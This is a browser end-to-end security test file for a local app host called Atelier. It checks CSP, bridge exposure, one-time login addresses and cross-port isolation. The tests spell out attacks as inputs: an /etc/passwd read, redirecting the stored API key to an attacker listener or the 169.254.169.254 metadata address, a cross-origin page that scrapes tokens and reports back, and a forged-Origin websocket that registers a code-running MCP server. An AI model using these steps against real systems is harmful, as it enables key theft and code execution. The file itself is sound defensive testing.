// The web host as a browser sees it: the CSP holds without breaking the app, the bridge stays narrow, a printed address works once, and a page on another local port gets nothing.
import { existsSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import WebSocket from 'ws';
import {
  assistantMessages,
  expect,
  gotoApp,
  reloadApp,
  section,
  sendMessage,
  startChatting,
  test,
  waitForTurnEnd,
} from './fixtures';

test('a whole chat turn runs with no Content-Security-Policy violation', async ({
  page,
  atelier,
}) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await startChatting(page, atelier);
  // Markdown, code highlighting and math all load lazily: this answer needs each of them.
  await sendMessage(page, 'Show me everything [[long:300]]');
  await waitForTurnEnd(page);
  const answer = assistantMessages(page).last();
  await expect(answer.locator('pre code').first()).toBeVisible();
  await expect(answer.locator('.katex').first()).toBeVisible();
  expect(violations).toEqual([]);
});

test('the page gets window.atelier and nothing more powerful', async ({ page, atelier }) => {
  await page.goto(atelier.url);
  const surface = await page.evaluate(() => {
    const api = (window as unknown as { atelier: Record<string, unknown> }).atelier;
    return {
      keys: Object.keys(api).sort(),
      frozen: Object.isFrozen(api),
      platform: api.platform,
      hasNode: typeof (window as unknown as { require?: unknown }).require !== 'undefined',
    };
  });
  expect(surface).toEqual({
    keys: ['invoke', 'on', 'platform'],
    frozen: true,
    platform: 'web',
    hasNode: false,
  });
  const unknown = await page.evaluate(() =>
    (
      window as unknown as {
        atelier: { invoke(channel: string, input: unknown): Promise<unknown> };
      }
    ).atelier.invoke('fs.readFile', { path: '/etc/passwd' }),
  );
  expect(unknown).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
});

test('a socket that calls before its hello is closed unanswered', async ({ page, atelier }) => {
  await gotoApp(page, atelier.url);
  const outcome = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const socket = new WebSocket(`ws://${location.host}/bridge`);
        socket.onopen = () =>
          socket.send(JSON.stringify({ id: 1, channel: 'conversations.list', input: {} }));
        socket.onmessage = () => resolve('answered');
        socket.onclose = (event) => resolve(`closed ${event.code}`);
      }),
  );
  expect(outcome).toBe('closed 4401');
});

test('a compromised page cannot steer the saved key to another host', async ({ page, atelier }) => {
  // A listener that records whatever reaches it: the attacker's server, on this computer but
  // under another host name (localhost, not 127.0.0.1), plus an internal address.
  const seen: string[] = [];
  const attacker = createServer((req, res) => {
    seen.push(`${req.url ?? ''} ${req.headers.authorization ?? ''}`);
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end('{"data": []}');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const port = (attacker.address() as AddressInfo).port;
  try {
    await startChatting(page, atelier);
    type Bridge = {
      invoke(
        channel: string,
        input: unknown,
      ): Promise<{ ok: boolean; error?: { message: string } }>;
    };
    const call = (channel: string, input: unknown) =>
      page.evaluate(
        ([c, i]) => (window as unknown as { atelier: Bridge }).atelier.invoke(c as string, i),
        [channel, input] as const,
      );

    // 1. The base URL moved to another host: nothing asks with the key any more.
    expect((await call('settings.update', { baseUrl: `http://localhost:${port}/v1` })).ok).toBe(
      true,
    );
    await call('models.list', {});
    await call('balance.get', {});
    await call('diagnostics.sendTest', {});
    await call('diagnostics.fetchReceived', {});
    const view = (await call('settings.get', {})) as unknown as {
      ok: true;
      data: { keySet: boolean; keyElsewhere: string | null };
    };
    expect(view.data).toMatchObject({ keySet: false, keyElsewhere: 'http://127.0.0.1' });

    // 2. Plain http off this computer, and internal addresses, are refused outright.
    for (const baseUrl of ['http://10.0.0.8/v1', 'http://169.254.169.254/v1'])
      expect((await call('settings.update', { baseUrl })).ok).toBe(false);

    // 3. Back on the service, the debug and legacy addresses cannot point elsewhere.
    expect((await call('settings.update', { baseUrl: atelier.simBaseUrl })).ok).toBe(true);
    for (const field of ['debugBaseUrl', 'legacyBaseUrl'])
      expect((await call('diagnostics.update', { [field]: `http://localhost:${port}` })).ok).toBe(
        false,
      );
    await call('diagnostics.sendTest', {});

    expect(seen.filter((line) => line.includes('sim-fast'))).toEqual([]);
    // And the key still works where it belongs.
    await sendMessage(page, 'still here?');
    await waitForTurnEnd(page);
    await expect(assistantMessages(page).last()).not.toBeEmpty();
  } finally {
    await new Promise<void>((resolve) => attacker.close(() => resolve()));
  }
});

test('the bare address lets nobody in: it says to open the address from the terminal', async ({
  browser,
  atelier,
}) => {
  // Another user on this computer, in a browser that never opened the printed address.
  const stranger = await browser.newContext();
  try {
    const page = await stranger.newPage();
    await page.goto(new URL(atelier.url).origin);
    await expect(
      page.getByRole('heading', { name: 'Open Atelier from its terminal' }),
    ).toBeVisible();
    expect(await page.content()).not.toMatch(/atelier-bridge-token/);
    expect(await page.evaluate(() => 'atelier' in window)).toBe(false);
    expect(await stranger.cookies()).toEqual([]);
  } finally {
    await stranger.close();
  }
});

test('the printed address works once: a second use gets the page that says to open the terminal’s', async ({
  browser,
  page,
  atelier,
}) => {
  const address = atelier.url;
  await gotoApp(page, address);
  await expect(section(page, 'Settings')).toBeVisible();
  // The address bar no longer holds it, and a reload of the tab keeps the tab in.
  expect(page.url()).not.toContain('token=');
  await reloadApp(page);
  await expect(section(page, 'Settings')).toBeVisible();

  const other = await browser.newContext();
  try {
    const second = await other.newPage();
    await second.goto(address);
    await expect(
      second.getByRole('heading', { name: 'Open Atelier from its terminal' }),
    ).toBeVisible();
    expect(await second.evaluate(() => 'atelier' in window)).toBe(false);
  } finally {
    await other.close();
  }
});

test('a tab the host no longer knows (it was started again) says to open the new address', async ({
  page,
  atelier,
}) => {
  await gotoApp(page, atelier.url);
  await expect(section(page, 'Settings')).toBeVisible();
  await atelier.restartHost();
  await expect(page.getByRole('heading', { name: 'Open Atelier from its terminal' })).toBeVisible({
    timeout: 20_000,
  });
  // Its session is forgotten with it.
  expect(await page.evaluate(() => sessionStorage.getItem('atelier.web.session'))).toBeNull();
});

test('a page on another local port gets nothing that opens the bridge, lists nothing and runs nothing', async ({
  page,
  context,
  atelier,
}) => {
  await startChatting(page, atelier);
  await sendMessage(page, 'A private conversation');
  await waitForTurnEnd(page);
  const app = new URL(atelier.url).origin;
  const appPort = new URL(app).port;
  const marker = join(atelier.dataDir, '..', `atelier-pwned-${appPort}`);
  const mcpAdd = {
    name: 'pwned',
    transport: {
      type: 'stdio',
      command: process.execPath,
      args: ['-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran')`],
      env: {},
    },
  };

  // The other port: a page whose server keeps every cookie the browser sends it, and whose
  // script tries the app from the browser and reports what it got.
  const cookies: string[] = [];
  let report: { page: string; socket: string } | null = null;
  const attackerPage = `<!doctype html><script>
(async () => {
  const report = { page: '', socket: '' };
  try {
    report.page = await (await fetch(${JSON.stringify(`${app}/`)}, { credentials: 'include' })).text();
  } catch (error) {
    report.page = 'blocked: ' + error;
  }
  const token = (report.page.match(/[0-9a-f]{32,}/) || [''])[0];
  report.socket = await new Promise((resolve) => {
    const ws = new WebSocket(${JSON.stringify(`${app.replace('http:', 'ws:')}/bridge?token=`)} + token);
    ws.onopen = () => {
      ws.send(JSON.stringify({ kind: 'hello', login: token }));
      ws.send(JSON.stringify({ id: 1, channel: 'conversations.list', input: {} }));
    };
    ws.onmessage = (event) => resolve('answered: ' + event.data);
    ws.onclose = () => resolve('closed');
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
})();
</script>`;
  const attacker = createServer((req, res) => {
    if (req.headers.cookie) cookies.push(req.headers.cookie);
    if (req.method === 'POST') {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        report = JSON.parse(body) as { page: string; socket: string };
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' }).end(attackerPage);
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  try {
    const tab = await context.newPage();
    await tab.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
    await expect.poll(() => report, { timeout: 20_000 }).not.toBeNull();

    // Its server, with those cookies and an Origin it forges: the page, a token, the bridge.
    const cookie = cookies.join('; ');
    const html = await (await fetch(`${app}/`, { headers: { cookie } })).text();
    const answers: string[] = [];
    for (const token of ['', ...new Set(html.match(/[0-9a-f]{32,}/g) ?? [])]) {
      const socket = new WebSocket(`${app.replace('http:', 'ws:')}/bridge?token=${token}`, {
        headers: { Origin: app, cookie },
      });
      await new Promise<void>((resolve) => {
        socket.on('message', (raw) => {
          answers.push(raw.toString());
          if (answers.length >= 2) resolve();
        });
        socket.once('close', () => resolve());
        socket.once('error', () => resolve());
        socket.once('open', () => {
          socket.send(JSON.stringify({ kind: 'hello', login: token }));
          socket.send(JSON.stringify({ id: 1, channel: 'conversations.list', input: {} }));
          socket.send(JSON.stringify({ id: 2, channel: 'mcp.add', input: mcpAdd }));
        });
      });
      socket.terminate();
    }
    expect(answers).toEqual([]);
    expect(existsSync(marker)).toBe(false);
    expect(report!.page).toMatch(/^blocked/);
    expect(report!.socket).toBe('closed');
    expect(cookies.join('; ')).not.toMatch(/atelier/i);
    // The person's own page: still in, and no server was added.
    const servers = await page.evaluate(() =>
      (
        window as unknown as {
          atelier: { invoke(c: string, i: unknown): Promise<{ data: unknown[] }> };
        }
      ).atelier.invoke('mcp.list', {}),
    );
    expect(servers.data).toEqual([]);
  } finally {
    await new Promise<void>((resolve) => attacker.close(() => resolve()));
    await rm(marker, { force: true });
  }
});
